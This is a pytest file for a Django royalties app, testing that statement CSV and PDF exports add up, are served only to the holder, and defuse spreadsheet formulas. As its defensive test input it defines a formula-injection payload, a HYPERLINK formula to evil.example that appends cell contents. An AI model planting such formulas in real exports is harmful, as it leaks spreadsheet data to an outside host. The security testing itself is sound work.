"""Statement exports: the CSV adds up to the statement and runs nothing in a spreadsheet; the PDF
is a PDF naming the holder. From the page and from the API, for the holder only."""

from __future__ import annotations

import csv
import io
import re
import zlib

import pytest
from django.template.loader import render_to_string

from licensing.models import Work
from royalties.models import Statement
from royalties.services import statement_exports
from tests.licensing.declarations_support import active_licence
from tests.royalties.cycles_support import policy
from tests.royalties.test_cycle_pages import holder_works, open_cycle, publish, stored_allocation

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")'


@pytest.fixture
def statement(operator, approver, rights_holder, co_holder, licensee):
    policy(operator)
    a, b, c = holder_works(rights_holder, "A", "B", "C")
    Work.objects.filter(pk=b.pk).update(title=EVIL_TITLE)
    (d,) = holder_works(co_holder, "D")
    cycle = open_cycle(operator)
    stored_allocation(
        cycle,
        licence=active_licence(licensee),
        holders={
            rights_holder.organisation: [(a, 70, 7_001), (b, 20, 2_003), (c, 5, 499)],
            co_holder.organisation: [(d, 1, 1_000)],
        },
    )
    publish(cycle, approver)
    return Statement.objects.get(holder=rights_holder.organisation)


def _csv(response) -> tuple[dict, list[dict]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header_block, lines_block = text.split("\n\n", 1)
    header = dict(list(csv.reader(io.StringIO(header_block)))[1:])
    return header, list(csv.DictReader(io.StringIO(lines_block)))


def _assert_adds_up(statement, header, lines):
    assert header["holder_code"] == statement.holder.code
    assert int(header["earned_minor"]) == statement.earned_minor == 9_503
    assert int(header["payable_minor"]) == statement.payable_minor
    total = int(header["brought_forward_minor"]) + int(header["earned_minor"])
    assert total == int(header["payable_minor"]) + int(header["carried_forward_minor"])
    works = [row for row in lines if row["section"] == "work"]
    sources = [row for row in lines if row["section"] == "source"]
    assert sum(int(row["amount_minor"]) for row in works) == statement.earned_minor
    assert sum(int(row["amount_minor"]) for row in sources) == statement.earned_minor
    assert [int(row["amount_minor"]) for row in works] == [7_001, 2_003, 499]  # largest first
    assert {row["product"] for row in sources} == {"decl-test"}


def _assert_nothing_executes(text_rows):
    for row in text_rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_csv_adds_up_to_the_statement_and_defuses_formulas(statement, rights_holder):
    response = rights_holder.client().get(f"/statements/{statement.pk}/statement.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert f'filename="statement-2026-Q3-{statement.holder.code}' in response["Content-Disposition"]
    header, lines = _csv(response)
    _assert_adds_up(statement, header, lines)
    evil = next(row for row in lines if "HYPERLINK" in row["title"])
    assert evil["title"] == "'" + EVIL_TITLE
    _assert_nothing_executes([row.values() for row in lines])
    _assert_nothing_executes([header.keys(), header.values()])


def test_the_api_serves_the_same_csv_to_the_holder_only(
    statement, rights_holder, co_holder, api_client_for
):
    client = api_client_for(rights_holder.organisation)
    response = client.get(f"/api/v1/statements/{statement.pk}/statement.csv/")
    assert response.status_code == 200
    header, lines = _csv(response)
    _assert_adds_up(statement, header, lines)
    # Without the trailing slash, the API redirects to the canonical URL.
    bare = client.get(f"/api/v1/statements/{statement.pk}/statement.csv")
    assert bare.status_code == 301
    assert bare["Location"].endswith(f"/api/v1/statements/{statement.pk}/statement.csv/")
    other = api_client_for(co_holder.organisation)
    assert other.get(f"/api/v1/statements/{statement.pk}/statement.csv/").status_code == 404
    assert other.get(f"/api/v1/statements/{statement.pk}/statement.pdf/").status_code == 404


def _pdf_text(data: bytes) -> bytes:
    """The PDF's uncompressed objects (WeasyPrint compresses them into object streams)."""
    parts = [data]
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            parts.append(zlib.decompress(match.group(1)))
        except zlib.error:
            continue
    return b"\n".join(parts)


def test_the_pdf_is_a_pdf_naming_the_holder(statement, rights_holder, api_client_for):
    page = rights_holder.client().get(f"/statements/{statement.pk}/statement.pdf")
    assert page.status_code == 200 and page["Content-Type"] == "application/pdf"
    assert page.content.startswith(b"%PDF") and len(page.content) > 5_000
    text = _pdf_text(page.content)
    assert f"Title (Statement 2026-Q3 {statement.holder.code})".encode() in text
    api = api_client_for(rights_holder.organisation).get(
        f"/api/v1/statements/{statement.pk}/statement.pdf/"
    )
    assert api.status_code == 200 and api.content.startswith(b"%PDF")
    assert f"{statement.holder.code}".encode() in _pdf_text(api.content)


def test_the_pdf_template_carries_the_summary_products_and_top_works(statement, monkeypatch):
    captured = {}

    def render(name, context):
        captured.update(context)
        return render_to_string(name, context)

    monkeypatch.setattr(statement_exports, "render_to_string", render)
    assert statement_exports.statement_pdf(statement=statement).startswith(b"%PDF")
    assert ("Payable", "95.03 EUR") in captured["summary"]
    assert captured["products"] == [("decl-test", "95.03 EUR")]
    assert [w[3] for w in captured["works"]] == ["70.01 EUR", "20.03 EUR", "4.99 EUR"]
    assert EVIL_TITLE in [w[1] for w in captured["works"]]  # escaped by the template, not run
